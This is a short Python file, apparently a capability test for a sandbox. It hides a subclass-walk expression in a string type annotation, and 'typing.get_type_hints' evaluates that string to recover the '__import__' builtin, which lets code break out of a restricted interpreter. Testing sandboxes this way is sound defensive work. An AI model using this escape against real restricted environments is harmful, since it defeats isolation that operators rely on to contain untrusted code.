# kind: capability
# typing.get_type_hints evaluates string annotations with eval(): the
# walk runs inside the string, past any rewrite of the code.
import typing


def f(x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['__import__']"):
    pass


payload(typing.get_type_hints(f)["x"])
